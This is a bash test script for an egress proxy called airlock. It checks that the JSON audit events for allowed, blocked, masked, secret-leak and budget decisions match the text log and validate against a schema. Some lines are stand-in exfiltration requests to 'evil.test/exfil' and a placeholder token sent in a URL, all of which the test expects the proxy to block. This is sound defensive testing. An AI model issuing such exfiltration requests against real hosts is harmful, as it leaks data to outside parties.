#!/bin/bash
# Issue 31, part 1: JSON audit events. A real airlock writes its text log and, with --events, a
# JSON object per event beside it; every kind of event the run produces here (task start, DNS,
# allowed, blocked, error, masked, a stripped and a collapsed header, a secret leak, a budget,
# CONNECT intercepted and refused, a passthrough tunnel, TLS rejected, a sandbox's request and
# a connection from no sandbox) is validated against docs/events.schema.json with Debian's
# python3-jsonschema, and each JSON line is checked to be the text line of the same decision
# (rebuilt from the object by the rules of docs/events.md, an implementation independent of
# airlock's). Then --log-format json writes the log itself as JSON, and `airlock replay` and
# `airlock report` give the same over the JSON log as over the text log.
. "$(dirname "$0")/lib.sh"
t_enter_netns "$@"
SCHEMA="$AIRLOCK_SRC/docs/events.schema.json"
"$PY" -c 'import jsonschema' 2>/dev/null ||
    t_skip package "python3-jsonschema is not installed (.ci/packages/test-base)"

REAL="ghp_REALREALREALREALREALREALREALREAL0031"
SURR="ghp_SurrogateSurrogateSurrogate000031"
cat > "$T_DIR/allow.yaml" <<'YAML'
domains: ["nginx.test", "down.test"]
url_prefixes:
  - host: pass.test
    tls: passthrough
  - host: budget.test
budgets:
  - host: budget.test
    requests: 1
YAML
cat > "$T_DIR/repl.json" <<JSON
{"$SURR": {"value": "$REAL", "scopes": ["nginx.test"], "headers": ["Authorization"]}}
JSON
t_start_resolver --address=/down.test/ || exit 1
t_upstream_ca
t_upstream_cert "DNS:nginx.test,DNS:pass.test,DNS:budget.test" "$T_DIR/up"
t_start_nginx "listen 127.0.0.2:443 ssl; ssl_certificate $T_DIR/up.pem; ssl_certificate_key $T_DIR/up.key;" || exit 1
EV="$T_DIR/events.jsonl"
t_start_airlock "$T_DIR/allow.yaml" --replacements "$T_DIR/repl.json" --upstream-ca "$T_DIR/upca.pem" \
    --listen-proxy 127.0.0.1:3128 --events "$EV" || exit 1
CA="$T_DIR/confdir/mitmproxy-ca-cert.pem"
c() { curl -s -o /dev/null -m 5 --cacert "$CA" "$@"; }

dig +short @127.0.0.1 quiet.test AAAA > /dev/null
c http://nginx.test/echo
c 'http://evil.test/exfil?d=1'
c http://down.test/
c -H "Authorization: Bearer $SURR" https://nginx.test/echo
c -H "Authorization: Bearer attacker" https://nginx.test/echo
c -H "Authorization: Bearer $SURR" -H "Authorization: Bearer $SURR" https://nginx.test/echo
c "https://nginx.test/echo?k=$REAL"
c http://budget.test/echo
c http://budget.test/echo
c -x http://127.0.0.1:3128 https://nginx.test/echo
# what the exchange relayed (JSON only): a known body up, the answer's size down
head -c 1000 /dev/zero | tr '\0' 'b' > "$T_DIR/body"
DOWN=$(curl -s -o /dev/null -m 5 -w '%{size_download}' --data-binary @"$T_DIR/body" http://nginx.test/echo?relay=1)
c -x http://127.0.0.1:3128 https://evil.test/
c -x http://127.0.0.1:3128 --cacert "$T_DIR/upca.pem" https://pass.test/echo
curl -s -o /dev/null -m 5 https://nginx.test/untrusted
t_wait_log '^TLS REJECTED nginx.test '
t_stop_airlock
LOG="$T_DIR/net.log"
for want in '^allowed GET https://nginx.test/echo -> 200 \[masked: 1\]$' '^STRIPPED header ' \
    '^COLLAPSED 2 ' '(leak: secret ' '(budget: requests for budget.test' \
    '^allowed CONNECT nginx.test:443 -> 200$' '^BLOCKED CONNECT evil.test:443 -> 403' \
    '^allowed CONNECT pass.test:443 -> 200 tunnel$' '^TLS REJECTED nginx.test ' \
    '^ERROR GET http://down.test/ ' '^DNS AAAA quiet.test -> NODATA$' '^=== TASK START '; do
    t_check "the text log has /$want/" grep -q -- "$want" "$LOG"
done

cat > "$T_DIR/check.py" <<'PY'
# check.py SCHEMA TEXT_LOG JSON_LOG [sandbox]: every JSON line valid against the schema, and
# line i of the JSON is the text line i rebuilt from the object (docs/events.md, "Reading").
import json, re, sys
import jsonschema

def esc(s):
    out = []
    for b in s.encode("utf-8"):
        out.append(chr(b) if 0x20 <= b < 0x7f else "\\x%02x" % b)
    return "".join(out)

VERDICT = {"allowed": "allowed", "blocked": "BLOCKED", "error": "ERROR"}

def text_of(o):
    k, g = o["kind"], o.get
    tail = lambda: " (%s)" % g("detail") if g("detail") else ""
    if k == "other":
        return g("text")
    if k == "task_start":
        return "=== TASK START %s ===" % g("started")
    if k in ("request", "connect", "tunnel", "connection"):
        annot = g("annot_text") or "".join(" [%s: %s]" % (a, v) for a, v in g("annotations", {}).items())
        res = str(g("status")) if "status" in o else g("reason")
        return "%s %s %s -> %s%s%s%s" % (VERDICT[g("decision")], g("method", "-"), g("url", "-"), res,
                                         annot, " tunnel" if k == "tunnel" else "", tail())
    if k == "dns":
        return "DNS %s %s -> %s" % (g("dns_type"), g("host"), g("dns_answer"))
    if k == "stripped":
        return "STRIPPED header '%s' from %s %s (%s)" % (g("header"), g("method", "-"), g("url", "-"), g("detail"))
    if k == "collapsed":
        return "COLLAPSED %d duplicate '%s' headers in %s %s (%s)" % (g("count"), g("header"), g("method", "-"), g("url", "-"), g("detail"))
    if k == "warning":
        return "WARNING: " + g("detail")
    if k == "tls_rejected":
        return "TLS REJECTED %s (%s)" % (g("host"), g("detail"))
    if k == "ghapp_token":
        return "GitHub App token refresh failed for %s %s: %s" % (g("method", "-"), g("url", "-"), g("detail"))
    if k == "ghapp_repos":
        return "GitHub App repo node ID resolution failed: " + g("detail")
    if k == "graphql_scope":
        return "GraphQL repo-scope check failed: " + g("detail")
    if k == "decision":
        n = g("requests")
        return "DECISION %s %s %s %s %s by %s (%s%d request%s)" % (
            g("hold"), g("decision"), g("method", "-"), g("host", "-"), g("path", "-"), g("by", "-"),
            "scope %s, " % g("scope") if g("scope") else "", n, "" if n == 1 else "s")
    raise ValueError(k)

schema = json.load(open(sys.argv[1]))
val = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
text = open(sys.argv[2], encoding="ascii").read().splitlines()
objs = open(sys.argv[3], encoding="utf-8").read().splitlines()
bad = 0
if len(text) != len(objs):
    print("line counts differ: text %d, json %d" % (len(text), len(objs)))
    bad += 1
kinds = {}
for i, (t, j) in enumerate(zip(text, objs)):
    o = json.loads(j)
    errs = list(val.iter_errors(o))
    for e in errs:
        print("line %d: schema: %s: %s" % (i + 1, e.message, j))
    bad += len(errs) > 0
    rebuilt = esc(text_of(o)) if o["kind"] != "other" else esc(o["text"])
    if rebuilt != t:
        print("line %d differs:\n  text %s\n  json %s\n  rebuilt %s" % (i + 1, t, j, rebuilt))
        bad += 1
    if o["kind"] in ("request", "connect", "tunnel", "stripped", "collapsed") and "url" in o:
        m = re.match(r"^(?:(https?)://)?(\[[^]]+\]|[^/:?]+)(?::(\d+))?", o["url"])
        if m.group(2).strip("[]") != o.get("host"):
            print("line %d: host %r is not the URL's" % (i + 1, o.get("host")))
            bad += 1
    key = o["kind"] + ("/" + o["decision"] if "decision" in o else "")
    kinds[key] = kinds.get(key, 0) + 1
    if len(sys.argv) > 4 and o.get("sandbox") not in (None, sys.argv[4]):
        print("line %d: sandbox %r" % (i + 1, o.get("sandbox")))
        bad += 1
print("kinds: " + " ".join("%s=%d" % kv for kv in sorted(kinds.items())))
sys.exit(1 if bad else 0)
PY
out=$("$PY" "$T_DIR/check.py" "$SCHEMA" "$LOG" "$EV" 2>&1); rc=$?
printf '%s\n' "$out" | sed 's/^/  /'
t_eq "every JSON event is valid against the schema and is its text line" 0 "$rc"
for k in task_start dns request/allowed request/blocked request/error connect/allowed \
    connect/blocked tunnel/allowed stripped collapsed tls_rejected/rejected; do
    t_contains "the run produced a $k event" "$out" " $k="
done
t_check "the events hold the masked count" grep -q '"annotations":{"masked":1}' "$EV"
t_check "the events hold the leak's entry" grep -q '"leak":{"kind":"secret","entry":"' "$EV"
t_check "the events hold the budget" grep -q '"budget":{"kind":"requests","for":"budget.test","count":"1/1"}' "$EV"
t_check "no real secret in the events" bash -c "! grep -q '$REAL' '$EV'"
# the relay members: bytes against the sizes sent and received, a duration, the address the
# test's upstream listens on, the stage and allowlist entry that decided
cat > "$T_DIR/relay.py" <<'PY'
import json, sys
ev, down = sys.argv[1], int(sys.argv[2])
objs = [json.loads(l) for l in open(ev, encoding="utf-8")]
def one(pred):
    got = [o for o in objs if pred(o)]
    return got[0] if len(got) == 1 else {"found": len(got)}
def show(name, o, keys):
    print("%s %s" % (name, " ".join("%s=%s" % (k, o.get(k, "-")) for k in keys)))
post = one(lambda o: o.get("url") == "http://nginx.test/echo?relay=1")
show("post", post, ["bytes_up", "bytes_down", "upstream_addr", "stage", "entry"])
print("post_down_ok %d" % (post.get("bytes_down") == down))
print("post_duration_ok %d" % (isinstance(post.get("duration_ms"), (int, float)) and post["duration_ms"] > 0))
tls = [o for o in objs if o.get("kind") == "request" and o.get("url") == "https://nginx.test/echo"
       and o.get("decision") == "allowed"]
print("tls_allowed %d" % len(tls))
for o in tls:
    show("tls", o, ["bytes_up", "upstream_addr", "stage"])
blocked = one(lambda o: o.get("url") == "http://evil.test/exfil?d=1")
show("blocked", blocked, ["bytes_down", "upstream_addr", "stage", "entry"])
leak = one(lambda o: "leak" in o and o.get("kind") == "request")
show("leak", leak, ["upstream_addr", "stage"])
budget = [o for o in objs if "budget" in o]
show("budget", budget[0] if budget else {}, ["stage"])
err = one(lambda o: o.get("url") == "http://down.test/")
show("error", err, ["decision", "upstream_addr", "stage"])
print("relay_only_in_requests %d" % all(o.get("kind") == "request" for o in objs if "duration_ms" in o))
PY
rel=$("$PY" "$T_DIR/relay.py" "$EV" "$DOWN" 2>&1)
printf '%s\n' "$rel" | sed 's/^/  /'
t_contains "a POST: its body's bytes up, the bytes sent down, the test upstream's address, decided by policy on domains[0]" \
    "$rel" "post bytes_up=1000 bytes_down=$DOWN upstream_addr=127.0.0.2:80 stage=policy entry=domains[0] $T_DIR/allow.yaml:1"
t_contains "... bytes down are what curl received ($DOWN)" "$rel" "post_down_ok 1"
t_contains "... a duration above 0 ms" "$rel" "post_duration_ok 1"
t_check "HTTPS (intercepted, through CONNECT too): no body up, the upstream's TLS port" \
    bash -c '[ "$(grep -c "^tls bytes_up=0 upstream_addr=127.0.0.2:443 stage=policy$" <<< "$1")" -ge 2 ] &&
        ! grep "^tls " <<< "$1" | grep -qv "upstream_addr=127.0.0.2:443"' _ "$rel"
t_contains "refused by the allowlist: nothing down, no upstream, no entry" "$rel" \
    "blocked bytes_down=0 upstream_addr=- stage=policy entry=-"
t_contains "refused by the secret guard: stage leak, no upstream" "$rel" "leak upstream_addr=- stage=leak"
t_contains "refused by a budget: stage budget" "$rel" "budget stage=budget"
t_contains "a failed upstream: stage upstream, no address" "$rel" "error decision=error upstream_addr=- stage=upstream"
t_contains "only request events carry the relay members" "$rel" "relay_only_in_requests 1"
t_check "time is RFC 3339 UTC with milliseconds" \
    grep -qE '^\{"v":2,"time":"20[0-9]{2}-[0-9]{2}-[0-9]{2}T[0-9:]{8}\.[0-9]{3}Z","kind":"task_start"' "$EV"

cp "$LOG" "$T_DIR/a.log"
cp "$EV" "$T_DIR/a.jsonl"

# --- --log-format json: the log itself; replay and report read it as they read the text ---
"$AIRLOCK" run --log-format yaml --upstream-dns 127.0.0.53 > /dev/null 2>&1
t_eq "--log-format yaml: usage error" 2 $?
t_start_airlock "$T_DIR/allow.yaml" --replacements "$T_DIR/repl.json" --upstream-ca "$T_DIR/upca.pem" \
    --log-format json || exit 1
c -H "Authorization: Bearer $SURR" https://nginx.test/echo
c http://nginx.test/echo
c 'http://evil.test/exfil?d=2'
c http://down.test/
t_wait_log '"url":"http://down.test/"' -F
t_stop_airlock
t_check "--log-format json: the log holds only JSON objects" bash -c "! grep -qv '^{' '$LOG'"
t_check "--log-format json: masked request" grep -q '"kind":"request","decision":"allowed","method":"GET","url":"https://nginx.test/echo".*"masked":1' "$LOG"
out=$("$PY" - "$SCHEMA" "$LOG" <<'PY'
import json, sys, jsonschema
v = jsonschema.Draft202012Validator(json.load(open(sys.argv[1])))
n = 0
for l in open(sys.argv[2]):
    v.validate(json.loads(l)); n += 1
print(n)
PY
); t_eq "--log-format json: every line valid" 0 $?
r_text=$("$AIRLOCK" replay --allowlist "$T_DIR/allow.yaml" "$T_DIR/a.log" 2>&1); rt=$?
r_json=$("$AIRLOCK" replay --allowlist "$T_DIR/allow.yaml" "$T_DIR/a.jsonl" 2>&1); rj=$?
t_eq "replay: same exit over JSON and text" "$rt" "$rj"
t_eq "replay: same output over JSON and text" "$r_text" "${r_json//a.jsonl/a.log}"
printf 'domains: ["nginx.test"]\n' > "$T_DIR/narrow.yaml"
r_text=$("$AIRLOCK" replay --allowlist "$T_DIR/narrow.yaml" "$T_DIR/a.log" 2>&1)
r_json=$("$AIRLOCK" replay --allowlist "$T_DIR/narrow.yaml" "$T_DIR/a.jsonl" 2>&1)
t_eq "replay (a narrower allowlist): same over JSON and text" "$r_text" "${r_json//a.jsonl/a.log}"
t_contains "replay found changes to report" "$r_text" "budget.test"
"$AIRLOCK" report -o "$T_DIR/text.html" "$T_DIR/a.log" > /dev/null 2>&1
"$AIRLOCK" report -o "$T_DIR/json.html" "$T_DIR/a.jsonl" > /dev/null 2>&1
t_check "report: same page over JSON and text" \
    cmp -s <(sed "s|a.jsonl|a.log|g" "$T_DIR/json.html") "$T_DIR/text.html"
s_text=$("$AIRLOCK" suggest "$T_DIR/a.log" 2>&1)
s_json=$("$AIRLOCK" suggest "$T_DIR/a.jsonl" 2>&1)
t_eq "suggest: same over JSON and text" "$s_text" "${s_json//a.jsonl/a.log}"

# --- a sandbox's events name it; a connection from no sandbox has none ---
SB="$T_DIR/sb"
mkdir -p "$SB/conv42"
printf 'source 127.0.0.42/32\n' > "$SB/conv42/sandbox.conf"
cp "$T_DIR/allow.yaml" "$SB/conv42/network-allowlist.yaml"
: > "$EV"
t_start_airlock "$T_DIR/allow.yaml" --sandboxes "$SB" --events "$EV" || exit 1
curl -s -o /dev/null -m 5 --interface 127.0.0.42 --resolve nginx.test:80:127.0.0.1 http://nginx.test/echo
curl -s -o /dev/null -m 5 --resolve nginx.test:80:127.0.0.1 http://nginx.test/echo
# shellcheck disable=SC2016 # expanded by until_ok's eval
until_ok 'grep -q "\"sandbox\":\"conv42\",\"kind\":\"request\"" "$EV"' 20
# shellcheck disable=SC2016 # expanded by until_ok's eval
until_ok 'grep -q "\"kind\":\"connection\"" "$EV"' 20
t_stop_airlock
t_check "a sandbox's request names the sandbox" \
    grep -q '"sandbox":"conv42","kind":"request","decision":"allowed","method":"GET","url":"http://nginx.test/echo"' "$EV"
t_check "a connection from no sandbox: kind connection, no sandbox" \
    grep -qE '^\{"v":2,"time":"[^"]*","kind":"connection","decision":"blocked","reason":"closed","detail":"source 127.0.0.1 is in no sandbox"\}$' "$EV"
out=$("$PY" - "$SCHEMA" "$EV" <<'PY'
import json, sys, jsonschema
v = jsonschema.Draft202012Validator(json.load(open(sys.argv[1])))
for l in open(sys.argv[2]):
    v.validate(json.loads(l))
PY
); t_eq "--sandboxes: every event valid" 0 $?
t_done
